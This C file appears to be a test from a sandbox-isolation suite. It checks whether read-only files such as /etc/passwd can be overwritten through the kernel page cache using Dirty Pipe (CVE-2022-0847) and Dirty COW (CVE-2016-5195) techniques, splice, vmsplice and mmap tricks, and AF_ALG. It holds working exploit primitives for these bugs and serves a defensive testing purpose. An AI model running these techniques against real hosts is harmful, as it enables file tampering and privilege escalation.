// Changes the pages of files that it may only read, in the kernel's cache, where every cell and the host would see it:
// by pipes that keep a page (CVE-2022-0847), races of copy-on-write (CVE-2016-5195), shared mappings, and the kernel's
// own cryptography (AF_ALG).
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/fs.h>
#include <pthread.h>
#include <stdint.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <time.h>

#include "attack.h"

enum { PAGE = 4096 };
static const char *path;
static char before[PAGE], after[PAGE];
static char *private_;
static volatile int racing;

static void splice_and_write(int file) {
  int ends[2], out[2];
  loff_t at = 1;
  char rest[PAGE];
  if (pipe(ends) < 0 || pipe(out) < 0) broken("pipes: %s", strerror(errno));
  // Full and empty again: every place of the pipe was written to once.
  for (int i = 0; i < 16; i++)
    if (write(ends[1], rest, PAGE) != PAGE) broken("fill: %s", strerror(errno));
  for (int i = 0; i < 16; i++)
    if (read(ends[0], rest, PAGE) != PAGE) broken("drain: %s", strerror(errno));
  if (splice(file, &at, ends[1], NULL, 1, 0) != 1) broken("splice: %s", strerror(errno));
  if (write(ends[1], "POISON", 6) != 6) broken("write behind it: %s", strerror(errno));
  if (tee(ends[0], out[1], 7, 0) < 1) broken("tee: %s", strerror(errno));
  if (write(out[1], "POISON", 6) != 6) broken("write behind it: %s", strerror(errno));
  if (sendfile(ends[1], file, &(off_t){2}, 8) != 8) broken("sendfile: %s", strerror(errno));
  if (write(ends[1], "POISON", 6) != 6) broken("write behind it: %s", strerror(errno));
  struct iovec gift = {.iov_base = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, file, 0), .iov_len = 16};
  if (vmsplice(ends[1], &gift, 1, SPLICE_F_GIFT) < 0) held("vmsplice: %s", strerror(errno));
  if (write(ends[1], "POISON", 6) != 6) broken("write behind it: %s", strerror(errno));
  REFUSED(splice(ends[0], NULL, file, &(loff_t){0}, 16, 0), EBADF);
  REFUSED(sendfile(file, file, NULL, 8), EBADF, EINVAL);
  REFUSED(copy_file_range(ends[0], NULL, file, NULL, 8, 0), EBADF, EINVAL);
  for (int i = 0; i < 2; i++) close(ends[i]), close(out[i]);
}

static void map_and_write(int file) {
  char *shared = mmap(NULL, PAGE, PROT_READ, MAP_SHARED, file, 0);
  REFUSED(mprotect(shared, PAGE, PROT_READ | PROT_WRITE), EACCES);
  REFUSED(mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0) == MAP_FAILED ? -1 : 0, EACCES);
  REFUSED(mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED_VALIDATE, file, 0) == MAP_FAILED ? -1 : 0, EACCES);
  REFUSED(madvise(shared, PAGE, MADV_REMOVE), EACCES, EINVAL, EPERM);
  REFUSED(madvise(shared, PAGE, MADV_POPULATE_WRITE), EINVAL, EFAULT);
  REFUSED(madvise(shared, PAGE, MADV_HWPOISON), EPERM, EINVAL);
  REFUSED(madvise(shared, PAGE, 101 /* MADV_SOFT_OFFLINE */), EPERM, EINVAL);
  REFUSED(pwrite(file, "POISON", 6, 0), EBADF);
  REFUSED(fallocate(file, FALLOC_FL_PUNCH_HOLE | FALLOC_FL_KEEP_SIZE, 0, PAGE), EBADF);
  REFUSED(fallocate(file, FALLOC_FL_ZERO_RANGE, 0, PAGE), EBADF);
  REFUSED(ftruncate(file, 0), EINVAL, EBADF);
  REFUSED(ioctl(file, FICLONE, file), EBADF, EOPNOTSUPP, EINVAL, ENOTTY);
  const struct iovec local = {.iov_base = before, .iov_len = 8}, remote = {.iov_base = shared, .iov_len = 8};
  REFUSED(syscall(SYS_process_vm_writev, getpid(), &local, 1, &remote, 1, 0), EPERM);
  REFUSED(socket(38 /* AF_ALG */, SOCK_SEQPACKET, 0), EAFNOSUPPORT);
}

static void *advise(void *unused) {
  while (racing) madvise(private_, PAGE, MADV_DONTNEED);
  return unused;
}

static void race(int file) {
  struct timespec begin, now;
  pthread_t thread;
  int memory = open("/proc/self/mem", O_RDWR);
  private_ = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
  racing = private_ != MAP_FAILED;
  if (!racing || pthread_create(&thread, NULL, advise, NULL)) broken("a private mapping: %s", strerror(errno));
  clock_gettime(CLOCK_MONOTONIC, &begin);
  do {
    for (int i = 0; i < 1000; i++) {
      if (memory >= 0 && pwrite(memory, "POISON", 6, (off_t)(uintptr_t)private_) < 0) break;
      memcpy(private_, "POISON", 6);
    }
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while ((now.tv_sec - begin.tv_sec) * 1000 + (now.tv_nsec - begin.tv_nsec) / 1000000 < 50);
  racing = 0;
  pthread_join(thread, NULL);
}

int main(int argc, char **argv) {
  static const char *const paths[] = {"/usr/bin/env", "/etc/passwd", "/usr/lib/os-release"};
  (void)argc;
  for (size_t i = 0; i <= sizeof paths / sizeof paths[0]; i++) {
    path = i < sizeof paths / sizeof paths[0] ? paths[i] : argv[0];
    int file = open(path, O_RDONLY);
    if (file < 0) continue;
    ssize_t size = pread(file, before, PAGE, 0);
    splice_and_write(file);
    map_and_write(file);
    race(file);
    int again = open(path, O_RDONLY);
    if (size < 64 || pread(again, after, PAGE, 0) != size || memcmp(before, after, (size_t)size) != 0)
      broken("%s has changed", path);
    else
      held("%s is as it was", path);
  }
  return 0;
}
